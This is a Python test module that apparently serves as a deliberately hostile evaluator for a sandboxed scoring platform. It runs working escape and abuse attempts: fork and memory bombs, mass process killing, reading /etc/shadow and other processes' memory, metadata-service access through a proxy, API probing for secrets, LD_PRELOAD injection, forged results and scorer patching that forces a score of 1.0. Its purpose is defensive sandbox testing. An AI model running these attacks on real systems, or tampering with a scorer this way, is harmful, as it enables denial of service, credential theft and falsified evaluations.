"""A hostile evaluator: each row names an attack, which runs where scoring runs. Used by test_attacks.py, in the real host and sandbox.

An attack returns what it got hold of, or "" when it got nothing; an exception counts as nothing. A row whose attack got something scores
1.0 with the evidence as its reason. Rows that name no attack are honest: their score follows from their text.
"""

from __future__ import annotations

import asyncio
import builtins
import contextlib
import ctypes
import glob
import json
import os
import resource
import signal
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

from eval_protocol.models import EvaluateResult, EvaluationRow, Message
from eval_protocol.pytest import RolloutProcessor, evaluation_test

LIBC = ctypes.CDLL(None, use_errno=True)
GIVEN = json.loads((Path(__file__).parent / "given.json").read_text())
"""What the test knows of the machine outside: pids, paths, ports."""


def exit_now() -> str:
    os._exit(0)


def sys_exit() -> str:
    sys.exit(0)


def patch_the_scorer() -> str:
    import eval_protocol.evaluation.aggregation as aggregation
    import eval_protocol.evaluation.scoring as scoring
    import eval_protocol.host.scorer as scorer

    for module in (aggregation, scoring, scorer):
        for name in ("valid_score", "score", "_scored", "invalid_reason"):
            if hasattr(module, name):
                setattr(module, name, lambda *_, **__: 1.0)
    return ""


def patch_json() -> str:
    json.loads = json.dumps = json.JSONEncoder.encode = lambda *_, **__: '{"score": 1.0}'
    return ""


def patch_builtins() -> str:
    builtins.isinstance = lambda *_: True
    builtins.max = builtins.min = lambda *_, **__: 1.0
    return ""


def close_the_loop() -> str:
    loop = asyncio.get_event_loop_policy().get_event_loop()
    loop.stop()
    loop.close()
    return ""


def close_descriptors() -> str:
    os.closerange(0, 512)
    return ""


def _sockets() -> list[int]:
    found = []
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                found.append(int(name))
    return found


def write_garbage_to_the_host() -> str:
    for descriptor in _sockets():
        with contextlib.suppress(OSError):
            os.write(descriptor, b"\xff\xfe not json\n" + b'{"op": "spawned", "id": 1}\n')
    return ""


def forge_the_result_of_another_row() -> str:
    forged = {"row": {}, "score": 1.0, "reason": "forged"}
    event = {"type": "rollout", "request_id": "attacks-0", "row_index": 0, "k": 0, "attempt": 0, "rollout_id": "r0"}
    for descriptor in _sockets():
        for message in (forged | event, event | forged | {"is_score_valid": True}):
            with contextlib.suppress(OSError):
                os.write(descriptor, json.dumps(message).encode() + b"\n")
    os._exit(0)


def answer_without_end() -> str:
    piece = b"x" * (1 << 20)
    for descriptor in _sockets():
        with contextlib.suppress(OSError):
            for _ in range(GIVEN["flood_mib"]):
                os.write(descriptor, piece)
    os._exit(0)


def answer_nested_deep() -> str:
    for descriptor in _sockets():
        with contextlib.suppress(OSError):
            os.write(descriptor, b'{"row":' + b"[" * 900 + b"]" * 900 + b',"score":1,"reason":""}\n')
    os._exit(0)


def flood_the_log() -> str:
    piece = b"\x1b[2J\x1b]0;owned\x07" + b"flood " * 10_000 + b"\n"
    for _ in range(GIVEN["flood_mib"] * (1 << 20) // len(piece)):
        os.write(1, piece)
    return ""


def steer_the_terminal() -> str:
    os.write(1, b"MARK \x1b[31mred\x1b]52;c;ZXZpbA==\x07\xc2\x9b31m\rover\x08\x08 MARK\n")
    return ""


def leave_a_daemon() -> str:
    subprocess.Popen(["sh", "-c", f"setsid sh -c 'exec -a daemon sleep {GIVEN['daemon_seconds']}' & exit 0"]).wait()
    return ""


def fork_without_end() -> str:
    children = 0
    with contextlib.suppress(OSError):
        while children < 2 * GIVEN["processes"]:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
            children += 1
    return f"{children} processes" if children >= GIVEN["processes"] else ""


def take_all_memory() -> str:
    kept = []
    while True:
        kept.append(bytearray(b"\1") * (32 << 20))


def take_all_memory_by_many_processes() -> str:
    for _ in range(16):
        if os.fork() == 0:
            kept = [bytearray(b"\1") * (16 << 20) for _ in range(GIVEN["memory_mib"] // 64)]
            time.sleep(20)
            os._exit(len(kept) == 0)
    for _ in range(16):
        os.wait()
    return ""


def fill_the_disk() -> str:
    written = 0
    for folder in ("/tmp", "/dev/shm", "/dev", "/var/tmp", "/run"):
        with contextlib.suppress(OSError):
            with open(f"{folder}/filler", "wb") as file:
                while written < (2 << 30):
                    written += file.write(b"\1" * (4 << 20))
    return f"{written} bytes" if written > (1 << 30) + (1 << 28) else ""


def spin() -> str:
    while True:
        pass


def hang() -> str:
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))
    while True:
        time.sleep(60)


def read_environments_of_others() -> str:
    found = []
    for path in glob.glob("/proc/[0-9]*/environ"):
        if path.split("/")[2] != str(os.getpid()):
            with contextlib.suppress(OSError):
                found.append(f"{path}: {len(Path(path).read_bytes())} bytes")
    return ", ".join(found)


def read_memory_of_others() -> str:
    for path in glob.glob("/proc/[0-9]*/mem"):
        if path.split("/")[2] not in (str(os.getpid()), "self"):
            with contextlib.suppress(OSError), open(path, "r+b"):
                return path
    return ""


def read_the_data_folder() -> str:
    wanted = [GIVEN["data_dir"] + "/keys", GIVEN["key_file"], GIVEN["database"], GIVEN["other_tenant"]]
    return ", ".join(path for path in wanted if os.path.exists(path))


def read_the_machine() -> str:
    wanted = [
        "/etc/shadow",
        "/etc/ssh",
        "/home",
        "/var/lib",
        "/proc/kcore",
        "/dev/mem",
        "/sys/kernel",
        GIVEN["profile"],
    ]
    found = []
    for path in wanted:
        with contextlib.suppress(OSError):
            entries = os.listdir(path) if os.path.isdir(path) else Path(path).open("rb").read(64)  # noqa: SIM115
            found += [f"{path}: {entries}"] if entries else []
    return ", ".join(found)


def write_what_is_built() -> str:
    done = []
    base = Path(__file__).parent
    for path in (
        base / "evaluation.py",
        base / "new.py",
        Path(sys.prefix) / "x.pth",
        Path(json.__file__),
        "/etc/x",
        "/usr/x",
    ):
        with contextlib.suppress(OSError), open(path, "a"):
            done.append(str(path))
    return ", ".join(done)


def link_out_of_tmp() -> str:
    for target in (GIVEN["key_file"], "/proc/1/root" + GIVEN["key_file"], "/proc/1/cwd"):
        with contextlib.suppress(OSError):
            os.symlink(target, "/tmp/link")
            if Path("/tmp/link").exists():
                return target
        with contextlib.suppress(OSError):
            os.unlink("/tmp/link")
    return ""


def trace_the_host() -> str:
    attach = 16
    for pid in (1, os.getppid(), *map(int, filter(str.isdigit, os.listdir("/proc")))):
        if pid != os.getpid() and LIBC.ptrace(attach, pid, None, None) == 0:
            return f"attached to {pid}"
    return ""


def kill_everything() -> str:
    killed = []
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)  # "succeeds" also when no process may be reached; the other rows tell
    for pid in (1, os.getppid(), *map(int, filter(str.isdigit, os.listdir("/proc")))):
        if pid != os.getpid():
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGSTOP)
                killed.append(pid)
    return ", ".join(map(str, killed))


def steal_descriptors() -> str:
    for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
        with contextlib.suppress(OSError):
            handle = os.pidfd_open(pid)
            for number in range(3, 12):
                if pid != os.getpid() and LIBC.syscall(438, handle, number, 0) >= 0:
                    return f"descriptor {number} of {pid}"
    return ""


def _reaches(host: str, port: int) -> bool:
    with contextlib.suppress(OSError), socket.create_connection((host, port), timeout=2):
        return True
    return False


def connect_to_the_machine() -> str:
    places = [
        ("127.0.0.1", GIVEN["open_port"]),
        ("127.0.0.1", 22),
        (GIVEN["address"], GIVEN["open_port"]),
        ("1.1.1.1", 443),
    ]
    places += [("169.254.169.254", 80), ("10.0.0.1", 80), ("192.168.0.1", 80)]
    return ", ".join(f"{host}:{port}" for host, port in places if _reaches(host, port))


def connect_through_the_proxy() -> str:
    proxy = os.environ["HTTP_PROXY"].rsplit(":", 1)
    places = [
        "169.254.169.254:80",
        "1.1.1.1:443",
        f"127.0.0.1:{GIVEN['open_port']}",
        f"127.0.0.1:{GIVEN['platform_port']}",
    ]
    places += [
        f"localhost:{GIVEN['platform_port']}",
        "[::ffff:169.254.169.254]:80",
        "0.0.0.0:80",
        "2130706433:80",
        "not.there:443",
    ]
    found = []
    for place in places:
        with socket.create_connection(("127.0.0.1", int(proxy[1])), timeout=5) as connection:
            connection.sendall(f"CONNECT {place} HTTP/1.1\r\n\r\n".encode())
            answer = connection.recv(200)
            if place.endswith(str(GIVEN["platform_port"])) and b" 200 " in answer:
                # That is the gateway's socket, which is allowed; the control plane must not be behind it.
                connection.sendall(b"GET /v1/accounts/local/secrets HTTP/1.1\r\nHost: x\r\n\r\n")
                answer = connection.recv(200)
                if b"403" in answer.split(b"\r\n")[0]:
                    continue
            if b" 200 " in answer.split(b"\r\n")[0]:
                found.append(place)
    with socket.create_connection(("127.0.0.1", int(proxy[1])), timeout=5) as connection:
        connection.sendall(b"GET http://169.254.169.254/latest/meta-data HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n")
        if b" 403 " not in connection.recv(200):
            found.append("metadata over http")
    return ", ".join(found)


def connect_to_unix_sockets() -> str:
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as client:
        client.connect("\0" + GIVEN["abstract"])
        return "abstract socket of the machine"
    for path in (
        GIVEN["host_socket"],
        GIVEN["data_dir"] + "/supervisor.sock",
        "/var/run/docker.sock",
        "/run/dbus/system_bus_socket",
    ):
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as client:
            client.connect(path)
            return path
    return ""


def open_odd_sockets() -> str:
    found = []
    kinds = {"vsock": (40, 1, 0), "alg": (38, 5, 0), "packet": (17, 3, 0), "raw": (2, 3, 1), "bluetooth": (31, 3, 1)}
    for name, (family, kind, protocol) in kinds.items():
        with contextlib.suppress(OSError), socket.socket(family, kind, protocol):
            found.append(name)
    return ", ".join(found)


def _ask(method: str, path: str, body: bytes | None = None, key: str | None = None) -> int:
    url = os.environ["FIREWORKS_API_BASE"] + path
    headers = {"Authorization": f"Bearer {key or os.environ['FIREWORKS_API_KEY']}", "Content-Type": "application/json"}
    try:
        with urllib.request.urlopen(urllib.request.Request(url, body, headers, method=method), timeout=10) as answer:
            return answer.status
    except urllib.error.HTTPError as error:
        return error.code


def use_the_key_on_the_control_plane() -> str:
    assert _ask("GET", "/litellm-gateway/health") == 200, "the gateway must answer, or this attack proves nothing"
    calls = [
        ("GET", "/v1/accounts/local"),
        ("GET", "/v1/accounts/local/secrets"),
        ("POST", "/v1/accounts/local/secrets"),
        ("GET", "/v1/accounts/local/evaluators"),
        ("POST", "/v1/accounts/local/apiKeys"),
        ("GET", "/v1/accounts/local/../local/models"),
        ("GET", "/v1//accounts/local/models"),
        ("GET", "/dashboard"),
        ("GET", "/openapi.json"),
        ("GET", "/internal/gateway"),
        ("PUT", "/internal/policies"),
        ("DELETE", "/internal/policies?name=x"),
        ("GET", "/internal/rollouts/other-r0-k0-a0/completions"),
        ("GET", "/v1/accounts/local/secrets/x/models"),
    ]
    got = {
        f"{method} {path}": _ask(method, path, b"{}" if method in ("POST", "PUT") else None) for method, path in calls
    }
    return ", ".join(f"{call}: {status}" for call, status in got.items() if status not in (401, 403, 404))


def use_another_key() -> str:
    got = [_ask("GET", "/litellm-gateway/traces?tags=rollout_id:x", key=GIVEN["account_key"])]
    return "the account's key is taken" if any(status == 200 for status in got) else ""


def read_rollouts_of_another_job() -> str:
    url = os.environ["FW_TRACING_GATEWAY_BASE_URL"] + f"/logs?tags=rollout_id:{GIVEN['other_rollout']}"
    request = urllib.request.Request(url, headers={"Authorization": f"Bearer {os.environ['FIREWORKS_API_KEY']}"})
    with urllib.request.urlopen(request, timeout=10) as answer:
        text = answer.read().decode()
    return text if GIVEN["other_line"] in text else ""


def make_namespaces() -> str:
    flags = {"user": 0x10000000, "mount": 0x20000, "net": 0x40000000, "pid": 0x20000000}
    found = [name for name, flag in flags.items() if LIBC.unshare(flag) == 0]
    found += ["clone3" for _ in [0] if LIBC.syscall(435, None, 0) == 0]
    done = subprocess.run(["unshare", "-Ur", "true"], capture_output=True, check=False)
    return ", ".join(found + (["unshare -Ur"] if done.returncode == 0 else []))


def mount_and_chroot() -> str:
    found = []
    if LIBC.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
        found.append("mount")
    if LIBC.umount2(b"/proc", 2) == 0:
        found.append("umount")
    if LIBC.chroot(b"/tmp") == 0:
        found.append("chroot")
    return ", ".join(found)


def call_the_kernel() -> str:
    """System calls that a sandbox has no use for; with arguments that make each fail in a way of its own where it is let through."""
    refused, found = 1, []
    calls = {
        "bpf": 321,
        "perf_event_open": 298,
        "keyctl": 250,
        "userfaultfd": 323,
        "io_uring_setup": 425,
        "kexec_load": 246,
    }
    calls |= {
        "init_module": 175,
        "process_vm_readv": 310,
        "setns": 308,
        "open_by_handle_at": 304,
        "kcmp": 312,
        "fsopen": 430,
    }
    for name, number in calls.items():
        ctypes.set_errno(0)
        if LIBC.syscall(number, 0, 0, 0, 0, 0) >= 0 or ctypes.get_errno() != refused:
            found.append(name)
    return ", ".join(found) if os.uname().machine == "x86_64" else ""


def gain_rights() -> str:
    if os.getuid() == 0 or LIBC.setuid(0) == 0 or LIBC.setgid(0) == 0:
        return "uid 0"
    done = subprocess.run(["su", "-c", "true"], stdin=subprocess.DEVNULL, capture_output=True, check=False, timeout=5)
    status = Path("/proc/self/status").read_text()
    rights = next(line.split()[1] for line in status.splitlines() if line.startswith("CapBnd"))
    return "su" if done.returncode == 0 else ("" if int(rights, 16) == 0 else f"capabilities {rights}")


def raise_limits() -> str:
    for name in (resource.RLIMIT_DATA, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):
        _, hard = resource.getrlimit(name)
        if hard != resource.RLIM_INFINITY:
            with contextlib.suppress(OSError, ValueError):
                resource.setrlimit(name, (hard * 2, hard * 2))
                return f"limit {name}"
    with contextlib.suppress(OSError):
        Path("/proc/self/oom_score_adj").write_text("-1000")
        return "oom_score_adj"
    return ""


def take_all_descriptors() -> str:
    kept = []
    with contextlib.suppress(OSError):
        while True:
            kept.append(os.open("/dev/null", os.O_RDONLY))
    return "" if len(kept) < 100_000 else f"{len(kept)} descriptors"


def preload_into_what_comes_next() -> str:
    os.environ["LD_PRELOAD"] = os.environ["PYTHONSTARTUP"] = "/tmp/evil.so"
    os.environ["PYTHONPATH"] = "/tmp"
    Path("/tmp/sitecustomize.py").write_text("open('/tmp/preloaded', 'w')")
    Path("/tmp/.pth").write_text("import os")
    return ""


def read_undeclared_secrets() -> str:
    return ", ".join(name for name in os.environ if name.startswith("UNDECLARED") or name.startswith("UV_"))


def rewrite_the_messages(row: EvaluationRow) -> None:
    row.messages = [Message(role="user", content="rewritten"), Message(role="assistant", content="a better answer")]
    row.execution_metadata.rollout_id = "job-r0-k0-a0"
    row.input_metadata.row_id = "another row"


SCORES = {
    "score_nan": float("nan"),
    "score_inf": float("inf"),
    "score_huge": 10**400,
    "score_negative": -0.5,
    "score_text": "1.0",
}


class Fixed(RolloutProcessor):
    """Answers without a model, so that what is tried is the scoring."""

    def __call__(self, rows, config):
        async def roll(row: EvaluationRow) -> EvaluationRow:
            row.messages = [*row.messages, Message(role="assistant", content="the answer")]
            return row

        return [asyncio.create_task(roll(row)) for row in rows]


@evaluation_test(input_dataset=["rows.jsonl"], completion_params=[{"model": "m"}], rollout_processor=Fixed())
async def test_attacks(row: EvaluationRow) -> EvaluationRow:
    """Run the attack that the row names."""
    name = str(row.messages[0].content)
    if name.startswith("honest"):
        row.evaluation_result = EvaluateResult(score=int(name.split()[1]) / 1000, reason="honest")
        return row
    if name in SCORES:
        row.evaluation_result = EvaluateResult.model_construct(
            score=SCORES[name], reason=name, is_score_valid=True, metrics={}
        )
        return row
    if name == "rewrite_the_messages":
        rewrite_the_messages(row)
        evidence = ""
    elif name == "strange_text":
        row.evaluation_result = EvaluateResult(score=0.0, reason="\ud800\x00\x1b[31m" + "x" * 200_000)
        return row
    elif name == "not_json":
        row.evaluation_result = EvaluateResult(score=0.0, reason="r", trajectory_info={"what": object()})
        return row
    else:
        try:
            evidence = globals()[name]()
        except Exception as error:  # noqa: BLE001 - an attack that fails got nothing
            row.evaluation_result = EvaluateResult(score=0.0, reason=f"{type(error).__name__}: {error}"[:300])
            return row
    row.evaluation_result = EvaluateResult(score=1.0 if evidence else 0.0, reason=evidence or "nothing")
    return row
